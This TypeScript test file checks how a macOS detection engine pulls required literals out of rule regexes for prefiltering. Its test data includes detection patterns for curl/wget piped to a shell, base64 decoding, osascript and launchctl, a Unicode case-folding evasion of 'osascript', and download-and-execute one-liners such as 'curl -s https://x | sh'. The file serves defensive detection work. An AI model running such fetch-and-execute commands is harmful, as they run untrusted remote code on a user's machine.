import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { RE2JS } from 're2js';
import { parseAllDocuments } from 'yaml';
import { describe, expect, it } from 'vitest';
import { necessaryLiterals } from '../../src/detection/regex-literals.js';
import { compileDetection } from '../../src/detection/index.js';
import { CTX, PROC_CREATION, exec } from './helpers.js';

const ROOT = join(import.meta.dirname, '../../../..');

describe('necessaryLiterals: what every match of a regex contains', () => {
  it.each<[string, string[] | undefined]>([
    ['\\b(curl|wget)["\\x27]?\\s', ['curl', 'wget']],
    [
      '\\|\\s*["\\x27]?(sh|bash|zsh|python[0-9.]*)\\b|\\$\\(\\s*["\\x27]?curl\\b',
      ['bash', 'curl', 'python', 'sh', 'zsh'],
    ],
    ['\\bbase64["\\x27]?\\s+(-d|--decode|-D)\\b', ['base64']],
    ['^(?:/tmp/[^/]+\\.app)', ['/tmp/']],
    // Case-insensitive: RE2 folds 's' with U+017F, which toLowerCase keeps, so an 's' ends a literal.
    ['(?i)OSASCRIPT.*-e', ['cript']],
    ['(?i:launchctl) load', ['launchctl']],
    ['launchctl\\s+(load|bootstrap)', ['launchctl']],
    ['(?P<name>hdiutil)\\s+attach', ['hdiutil']],
    ['k\\.plist$', ['k.plist']],
    ['colou?r', ['colo']],
    ['x{2}abc', ['abc']],
    ['(abc)?def', ['def']],
    ['(ab|)cd', ['cd']],
    ['ab+c', ['ab']],
    ['a{,2}bc', ['a{,2}bc']],
    // Nothing required, or nothing this walk reads as a literal: no prefilter.
    ['a.b', undefined],
    ['(abc)*', undefined],
    ['[abc]+', undefined],
    ['\\x41\\x42', undefined],
    ['\\Qa.b\\E', undefined],
    ['abc|d', undefined],
    ['é+tude', ['tude']],
  ])('%s → %j', (src, want) => {
    const got = necessaryLiterals(src);
    expect(got === undefined ? undefined : [...got].sort()).toEqual(want);
  });

  it('a case-insensitive pattern names no literal that a folded match can hide from toLowerCase', () => {
    const r = RE2JS.compile('osascript', RE2JS.CASE_INSENSITIVE);
    const evasive = 'o\u017Fa\u017Fcript -e x';
    expect(r.matcher(evasive).find()).toBe(true);
    const lits = necessaryLiterals('osascript', true)!;
    expect(lits).toEqual(['cript']);
    expect(lits.some((l) => evasive.toLowerCase().includes(l))).toBe(true);
  });

  it('names only literals that are there: every match of every shipped `re` pattern over the fixtures contains one', () => {
    const patterns: { re: string; flags: string }[] = [];
    const walk = (dir: string): void => {
      for (const e of readdirSync(dir, { withFileTypes: true })) {
        const p = join(dir, e.name);
        if (e.isDirectory()) walk(p);
        else if (e.name.endsWith('.yml')) {
          for (const d of parseAllDocuments(readFileSync(p, 'utf8'))) {
            const visit = (v: unknown): void => {
              if (Array.isArray(v)) v.forEach(visit);
              else if (v && typeof v === 'object')
                for (const [k, x] of Object.entries(v)) {
                  const mods = k.split('|').slice(1);
                  if (mods[0] === 're')
                    for (const s of Array.isArray(x) ? x : [x])
                      if (typeof s === 'string') patterns.push({ re: s, flags: mods.includes('i') ? 'i' : '' });
                  visit(x);
                }
            };
            visit(d.toJS());
          }
        }
      }
    };
    walk(join(ROOT, 'rules'));
    expect(patterns.length).toBeGreaterThan(5);
    // Every string value of every fixture event, and each event's exec command line joined.
    const strings = new Set<string>();
    for (const f of readdirSync(join(ROOT, 'fixtures'))) {
      if (!/\.jsonl(\.gz)?$/.test(f)) continue;
      const raw = readFileSync(join(ROOT, 'fixtures', f));
      const text = (f.endsWith('.gz') ? gunzipSync(raw) : raw).toString('utf8');
      for (const line of text.split('\n').slice(0, 20_000)) {
        if (line.length === 0) continue;
        let m: unknown;
        try {
          m = JSON.parse(line);
        } catch {
          continue;
        }
        const add = (v: unknown): void => {
          if (typeof v === 'string') strings.add(v);
          else if (Array.isArray(v)) {
            if (v.every((x) => typeof x === 'string')) strings.add(v.join(' '));
            v.forEach(add);
          } else if (v && typeof v === 'object') Object.values(v).forEach(add);
        };
        add(m);
      }
    }
    let matches = 0;
    for (const { re, flags } of patterns) {
      const lits = necessaryLiterals(flags === 'i' ? `(?i)${re}` : re);
      if (lits === undefined) continue;
      const r = RE2JS.compile(re, flags === 'i' ? RE2JS.CASE_INSENSITIVE : 0);
      for (const s of strings) {
        if (!r.matcher(s).find()) continue;
        matches++;
        const lower = s.toLowerCase();
        expect(
          lits.some((l) => lower.includes(l)),
          `${re} matched ${JSON.stringify(s)} without ${lits.join('|')}`,
        ).toBe(true);
      }
    }
    expect(matches).toBeGreaterThan(0);
  });

  it('gives a regex-only rule a prefilter of its literals, which the engine indexes; matches are unchanged', () => {
    const d = compileDetection({
      detection: {
        selection_dl: { 'CommandLine|re': '\\b(curl|wget)["\\x27]?\\s' },
        selection_pipe: { 'CommandLine|re': '\\|\\s*["\\x27]?(sh|bash|zsh)\\b' },
        condition: 'all of selection_*',
      },
      logsource: PROC_CREATION,
      fieldMapping: 'sigmahq-macos',
    });
    expect(d.prefilter?.tests).toEqual([
      { kind: 'contains', lit: 'curl' },
      { kind: 'contains', lit: 'wget' },
    ]);
    expect(d.match(exec('/bin/sh', ['sh', '-c', 'CURL -s https://x | sh']), CTX)).toBe(false); // case-sensitive `re`
    expect(d.match(exec('/bin/sh', ['sh', '-c', 'curl -s https://x | sh']), CTX)).toBe(true);
    expect(d.match(exec('/bin/sh', ['sh', '-c', 'wget -qO- https://x |bash']), CTX)).toBe(true);
  });
});
